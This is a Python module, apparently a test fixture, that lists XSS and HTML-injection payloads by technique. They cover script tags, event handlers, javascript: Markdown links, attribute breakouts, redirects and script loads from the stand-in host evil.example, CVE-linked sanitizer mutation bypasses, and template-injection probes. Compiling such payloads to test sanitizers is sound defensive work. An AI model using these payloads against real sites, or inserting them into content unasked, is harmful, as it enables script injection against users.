"""XSS and HTML-injection payloads, grouped by the trick they use.

Sources: the OWASP XSS filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, and the bleach /
html5lib advisories (noscript/math/svg mutation, CVE-2020-6802, CVE-2020-6816, CVE-2021-23980).
"""

TEMPLATE_MARK = "{{7*7}}"
EVALUATED = ("tpl49tpl", "tpl{{49}}")

TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<style>body{display:none}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<a href=# onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
]
MARKDOWN_URLS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](jav\tascript:alert(1))",
    "[click](java\x00script:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](livescript:alert(1))",
    "[click](javascript://example.org/%0aalert(1))",
    '[a](javascript:alert(1) "title")',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "![ref][img]\n\n[img]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[x](https://example.org"onmouseover="alert(1))',
]
ATTRIBUTES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<a href='https://example.org' style='position:fixed;top:0'>x</a>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<img src="https://example.org/a.png" alt=""" onerror="alert(1)">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="https://example.org" formaction="javascript:alert(1)">x</a>',
    '<abbr title="x" onmouseover="alert(1)">x</abbr>',
]
DOCUMENT = [
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=import href=//evil.example>",
    "<form action=//evil.example><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
]
MUTATION = [  # from the bleach/html5lib advisories and DOMPurify bypass write-ups
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<<script>script>alert(1)<</script>/script>",
    "<a/href=javascript&colon;alert(1)>x</a>",
    "<img src=`x`onerror=alert(1)>",
]
TEMPLATE = [
    f"tpl{TEMPLATE_MARK}tpl",
    "tpl{{ config }}tpl {% raw %}x{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
]

CORPUS = TAGS + HANDLERS + MARKDOWN_URLS + ATTRIBUTES + DOCUMENT + MUTATION + TEMPLATE

#: The sample that goes through every form and page (the whole corpus is too slow for that):
#: one of each trick, the mutation cases and the template probes.
SWEEP = [
    TAGS[0],
    TAGS[8],
    TAGS[13],
    HANDLERS[0],
    HANDLERS[4],
    MARKDOWN_URLS[4],
    MARKDOWN_URLS[7],
    MARKDOWN_URLS[18],
    MARKDOWN_URLS[20],
    ATTRIBUTES[5],
    ATTRIBUTES[9],
    ATTRIBUTES[12],
    DOCUMENT[0],
    MUTATION[0],
    MUTATION[2],
    TEMPLATE[0],
]
